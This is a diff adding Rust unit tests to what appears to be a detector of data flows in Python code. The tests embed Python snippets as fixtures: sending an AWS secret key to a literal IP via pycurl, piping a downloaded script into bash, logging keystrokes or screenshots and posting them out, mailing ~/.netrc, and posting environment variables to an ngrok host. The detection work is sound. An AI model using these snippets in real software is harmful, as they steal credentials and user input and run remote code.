@@ -284,3 +284,96 @@ fn a_decompression_bomb_stops_at_the_budget_and_says_so() {
     let why = f.decoding_stopped.expect("the stop is recorded");
     assert!(why.contains("grew past"), "{why}");
 }
+
+fn flows_of(src: &str) -> Vec<Flow> {
+    facts(src).flows
+}
+
+#[test]
+fn pycurl_options_carry_the_body_to_the_url() {
+    let flows = flows_of(
+        "import pycurl, os\ndef f():\n    d = os.environ['AWS_SECRET_ACCESS_KEY']\n    c = pycurl.Curl()\n    c.setopt(pycurl.URL, 'http://203.0.113.5/x')\n    c.setopt(pycurl.POSTFIELDS, d)\n    c.perform()\n",
+    );
+    let f = flows
+        .iter()
+        .find(|f| f.call == "pycurl.Curl.setopt")
+        .expect("a pycurl flow");
+    assert_eq!(f.sink, SinkKind::Network);
+    assert_eq!(f.destination.text.as_deref(), Some("http://203.0.113.5/x"));
+    assert!(f.destination.literal);
+}
+
+#[test]
+fn code_fed_to_a_shell_on_stdin_is_run() {
+    let run = |src: &str| {
+        flows_of(src)
+            .into_iter()
+            .any(|f| f.sink == SinkKind::Exec && f.call == "subprocess.run")
+    };
+    assert!(run(
+        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\nsubprocess.run(['bash'], input=s)\n"
+    ));
+    let popen = |src: &str| {
+        flows_of(src)
+            .into_iter()
+            .any(|f| f.sink == SinkKind::Exec && f.call.starts_with("subprocess.Popen."))
+    };
+    assert!(popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen(['sh', '-s'], stdin=subprocess.PIPE)\np.communicate(s.encode())\n"
+    ));
+    assert!(popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen('bash', stdin=subprocess.PIPE)\np.stdin.write(s)\n"
+    ));
+    assert!(!popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a').text\np = subprocess.Popen(['sort'], stdin=subprocess.PIPE)\np.communicate(s)\n"
+    ));
+    // Data a script reads on its stdin is not code.
+    assert!(!run(
+        "import subprocess, requests\ns = requests.get('http://x.example/a').text\nsubprocess.run(['bash', 'job.sh'], input=s)\n"
+    ));
+}
+
+#[test]
+fn captures_and_writes_into_buffers_are_followed() {
+    let sources = |src: &str| -> Vec<Source> {
+        flows_of(src)
+            .into_iter()
+            .flat_map(|f| f.data.atoms.into_iter().map(|a| a.source))
+            .collect()
+    };
+    let keys = sources(
+        "import keyboard, requests\nev = keyboard.record(until='enter')\nrequests.post('https://x.example', data=' '.join(keyboard.get_typed_strings(ev)))\n",
+    );
+    assert!(keys.iter().any(|s| matches!(s, Source::Surveillance(_))));
+    let shot = sources(
+        "import io, requests\nfrom PIL import ImageGrab\nimg = ImageGrab.grab()\nbuf = io.BytesIO()\nimg.save(buf, 'PNG')\nrequests.post('https://x.example', data=buf.getvalue())\n",
+    );
+    assert!(shot.iter().any(|s| matches!(s, Source::Surveillance(_))));
+    let mail = sources(
+        "import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(open(os.path.expanduser('~/.netrc')).read())\ns = smtplib.SMTP('mail.example')\ns.send_message(m)\n",
+    );
+    assert!(mail.iter().any(|s| matches!(s, Source::FileContent(_))));
+}
+
+#[test]
+fn an_address_whose_host_is_read_at_run_time_is_not_the_packages() {
+    let dest = |src: &str| {
+        flows_of(src)
+            .into_iter()
+            .find(|f| f.call == "requests.post")
+            .expect("a flow")
+            .destination
+    };
+    let d = dest(
+        "import requests, os\ndef f(host):\n    requests.post(f'https://{host}/v2/', data=os.environ['X'])\n",
+    );
+    assert!(!d.literal);
+    let d = dest(
+        "import requests, os\nrequests.post(os.environ['URL'] + '/e', data=dict(os.environ))\n",
+    );
+    assert!(!d.literal);
+    let d = dest(
+        "import requests, os\ndef f(k):\n    requests.post(f'https://{k}.ngrok.io/', data=os.environ['X'])\n",
+    );
+    assert!(d.literal);
+}
